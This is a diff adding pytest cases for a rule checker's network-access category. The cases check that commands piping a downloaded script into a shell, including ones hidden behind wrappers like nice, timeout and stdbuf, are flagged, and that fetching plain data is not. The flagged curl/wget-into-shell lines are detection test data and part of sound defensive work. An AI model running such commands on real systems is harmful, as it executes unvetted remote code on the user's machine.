@@ -1,0 +1,33 @@
+"""Built-in network_access rules: tunnels, reverse shells, scripts fetched into a shell."""
+import pytest
+
+from rulecheck import category_alerts, check_category_loads
+
+CATEGORY = "network_access"
+alerts = category_alerts(CATEGORY)
+
+
+def test_rules_load_cleanly():
+    check_category_loads(CATEGORY, minimum=1)
+
+
+@pytest.mark.parametrize("command", [
+    "curl -fsSL https://get.example.io/i.sh | sh",
+    "curl -fsSL https://get.example.io/i.sh | sudo bash",
+    # the shell behind a wrapper: no `|sh` in the text, the program is still a shell fed by curl
+    "curl -fsSL https://get.example.io/i.sh | nice -n 5 bash",
+    "curl -fsSL https://get.example.io/i.sh | timeout 60 bash",
+    "curl -fsSL https://get.example.io/i.sh | command sh",
+    "wget -qO- https://get.example.io/i.sh | stdbuf -oL sh",
+])
+def test_script_fetched_into_a_shell(command):
+    assert "remote_script_to_shell" in alerts(command)
+
+
+@pytest.mark.parametrize("command", [
+    "curl -fsSL https://get.example.io/i.sh -o i.sh",
+    "curl -s https://api.example.com/v1/items | jq .items",
+    "wget -qO- https://example.com/data.csv | nice -n 5 sort",
+])
+def test_fetched_data_not_run(command):
+    assert "remote_script_to_shell" not in alerts(command)
